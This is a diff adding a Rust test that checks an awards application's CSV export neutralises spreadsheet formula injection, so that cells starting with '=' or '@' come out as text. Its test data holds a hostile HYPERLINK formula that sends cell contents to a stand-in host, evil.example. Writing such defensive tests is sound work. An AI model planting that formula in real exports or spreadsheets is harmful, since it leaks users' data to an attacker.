@@ -151,3 +151,53 @@ async fn an_xlsx_export_opens_with_vietnamese_headers_and_real_dates() {
         "của đơn vị tiền thân"
     );
 }
+
+/// Issue 12, item 8: a formula imported into a text field comes out of the
+/// CSV export as text, never as a formula (OWASP CSV injection).
+#[tokio::test]
+async fn a_csv_export_neutralises_cells_that_a_spreadsheet_would_evaluate() {
+    let app = TestApp::from_db(TestDb::with_demo_no_awards().await);
+    let s = &app.db.store;
+    let p = s.person_by_cccd("093182124906").await.unwrap().unwrap();
+    let u = s.unit_by_code("hau-giang.so-xay-dung").await.unwrap();
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";
+    s.record_award(
+        "test",
+        &NewAward {
+            recipient: RecipientKind::Person,
+            person_id: Some(p.id),
+            unit_id: u.id,
+            award_code: "lao-dong-tien-tien".into(),
+            year: 2019,
+            achieved_on: None,
+            decision_no: "@SUM(1+1)".into(),
+            decision_date: date!(2020 - 01 - 10),
+            authority: evil.into(),
+            reason: String::new(),
+            revoked: false,
+            source: "entered",
+        },
+    )
+    .await
+    .unwrap();
+    let mut c = app.login("canbo.haugiang").await;
+    let csv = c
+        .get("/units/hau-giang.so-xay-dung/awards?format=csv")
+        .await;
+    assert_eq!(csv.status, StatusCode::OK);
+    let mut reader = csv::Reader::from_reader(csv.body.trim_start_matches('\u{feff}').as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let row = rows
+        .iter()
+        .find(|r| r.iter().any(|c| c.contains("evil.example")))
+        .expect("the award is exported");
+    assert_eq!(&row[10], format!("'{evil}"));
+    assert_eq!(&row[8], "'@SUM(1+1)");
+    assert_eq!(&row[0], "2019", "numbers stay numbers");
+    for cell in rows.iter().flat_map(csv::StringRecord::iter) {
+        assert!(
+            !cell.starts_with(['=', '+', '@', '\t', '\r']),
+            "a cell a spreadsheet would evaluate: {cell:?}"
+        );
+    }
+}
